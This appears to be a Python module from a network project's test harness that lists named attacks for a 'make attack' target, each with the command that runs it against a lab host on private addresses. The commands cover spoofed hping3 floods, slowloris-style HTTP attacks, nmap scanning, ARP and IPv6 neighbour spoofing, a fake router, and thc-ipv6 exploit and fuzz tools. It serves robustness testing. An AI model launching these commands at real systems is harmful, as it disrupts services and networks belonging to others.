# SPDX-License-Identifier: BSD-2-Clause
"""The attacks of make attack: what each is called, and the program that makes it."""
import pathlib
import sys

HERE = pathlib.Path(__file__).resolve().parent
PORT, LINK = 80, "weir0"
LINUX, WEIR = {4: "10.90.0.1", 6: "fd00:90::1"}, {4: "10.90.0.2", 6: "fd00:90::2"}
PREFIX = {4: 24, 6: 64}
FLOOD = ["hping3", "--flood", "--rand-source", "-q", WEIR[4]]
SLOW = ["slowhttptest", "-c", 1000, "-r", 500, "-i", 1, "-l", 3600, "-u", f"http://{WEIR[4]}/bytes/100000000", "-p", 3]


def stranger(kind, family=4):
    return [sys.executable, HERE / "stranger.py", kind, LINK, LINUX[family], WEIR[family], PORT]


def in_turn(program, *each):
    """One command after another, each for a second at the most."""
    return ["sh", "-c", "; ".join(f"timeout 1 {program} {words}" for words in each)]


def thc(name, *words):
    """Of thc-ipv6, whose programs Debian calls atk6-…"""
    return [f"atk6-{name}", *words]


ATTACKS = {   # name: what it is, and what is started, once more when it ends before its time
    "syn": ("SYN flood, spoofed", [*FLOOD, "-S", "-p", PORT]),
    "syn-fixed": ("SYN flood from one address, an on-link one that nobody has",
                  ["hping3", "--flood", "-q", "-a", "10.90.0.77", "-S", "-p", PORT, WEIR[4]]),
    "syn-near": ("SYN flood, spoofed from the link's prefix", stranger("syn")),
    "ack": ("ACK flood, spoofed", [*FLOOD, "-A", "-p", PORT]),
    "xmas": ("all flags, spoofed", [*FLOOD, "-F", "-S", "-R", "-P", "-A", "-U", "-X", "-Y", "-p", PORT]),
    "udp": ("UDP flood, spoofed, to a closed port", [*FLOOD, "-2", "-p", 4444, "-d", 64]),
    "icmp": ("ping flood, spoofed", [*FLOOD, "-1", "-d", 64]),
    "fragments": ("fragments that never end, spoofed", [*FLOOD, "-2", "-x", "-d", 64, "-p", 9]),
    "land": ("SYNs from the victim itself",
             ["hping3", "--flood", "-q", "-a", WEIR[4], "-S", "-p", PORT, "-s", PORT, "-k", WEIR[4]]),
    "scan": ("nmap: every port, the system",
             ["nmap", "-n", "-Pn", "-sS", "-O", "--osscan-guess", "-p-", "--min-rate", 20000, WEIR[4]]),
    "fuzz": ("scapy's fuzz()", stranger("fuzz")),
    "mutate": ("the honest client's frames, mutated (1)", stranger("mutate")),
    "slow-header": ("1,000 clients with a header that never ends", [*SLOW, "-H"]),
    "slow-body": ("1,000 clients with a body that never ends", [*SLOW, "-B"]),
    "slow-read": ("1,000 clients that hardly read", [*SLOW, "-X", "-w", 10, "-y", 20, "-n", 5, "-z", 32, "-k", 3]),
    "sockstress": ("1,000 connections a second with a window of zero", stranger("sockstress")),
    "arp-requests": ("ARP requests from nobody", stranger("arp-requests")),
    "arp-claims": ("forged ARP announcements", stranger("arp-claims")),
    "syn6": ("IPv6: SYN flood, spoofed", thc("thcsyn6", "-R", LINK, WEIR[6], PORT)),
    "syn6-near": ("IPv6: SYN flood, spoofed from the link's prefix", stranger("syn", 6)),
    "ack6": ("IPv6: ACK flood, spoofed", thc("thcsyn6", "-A", "-R", LINK, WEIR[6], PORT)),
    "ping6": ("IPv6: ping flood, spoofed from the link's prefix", stranger("ping", 6)),
    "solicit": ("neighbour solicitations from nobody", thc("flood_solicitate6", LINK, WEIR[6], WEIR[6])),
    "advertise": ("neighbour advertisements from nobody", thc("flood_advertise6", LINK)),
    "nd-claims": ("forged neighbour advertisements and solicitations", stranger("nd-claims", 6)),
    "routers": ("router advertisements, 25 prefixes and routes each", thc("flood_router26", LINK)),
    "routers-short": ("the same with short lifetimes", thc("flood_router26", "-s", LINK)),
    "router": ("a false router", thc("fake_router26", "-A", "fd00:bad::/64", "-R", "fd00:90::/64", "-M", 1280,
                                     "-p", "high", "-i", 1, LINK)),
    "redirect": ("redirects", thc("flood_redir6", LINK, WEIR[6])),
    "unreach": ("ICMPv6 errors, spoofed", thc("flood_unreach6", "-R", LINK, WEIR[6])),
    "too-big": ("packet too big, in the honest client's name",
                thc("toobig6", "-u", LINK, WEIR[6], LINUX[6], 1280)),
    "mld": ("MLD reports", thc("flood_mld26", LINK)),
    "dad": ("each address is somebody's already", thc("dos-new-ip6", LINK)),
    "denial6": ("chains of extension headers (denial6)",
                in_turn("atk6-denial6", *(f"{LINK} {WEIR[6]} {case}" for case in range(1, 8)))),
    "fragments6": ("IPv6 fragments (fragmentation6)",
                   in_turn("atk6-fragmentation6 -fp", *(f"{LINK} {WEIR[6]} {case}" for case in range(1, 30, 4)))),
    "exploit6": ("known exploits (exploit6)", thc("exploit6", LINK, WEIR[6])),
    "implementation6": ("odd packets (implementation6)", thc("implementation6", "-p", LINK, WEIR[6])),
    "fuzz6": ("fuzz_ip6: every kind, with headers",
              in_turn("atk6-fuzz_ip6 -a -x -IFSDHRJ",
                      *(f"{kind} {LINK} {WEIR[6]}" for kind in ("-X", *range(-1, -9, -1), f"-s {PORT}")))),
}
FIRST6 = "syn6"   # from here on the honest client speaks IPv6
# Who sees a connection's numbers can end it: TCP alone has no defence. What counts is the host, and new connections.
ON_PATH = {"mutate"}
# Made without the programs above: the short form, a part of `make test`.
OWN = ("syn-near", "sockstress", "arp-requests", "arp-claims", "syn6-near", "ping6", "nd-claims")


def family(name):
    return 6 if list(ATTACKS).index(name) >= list(ATTACKS).index(FIRST6) else 4
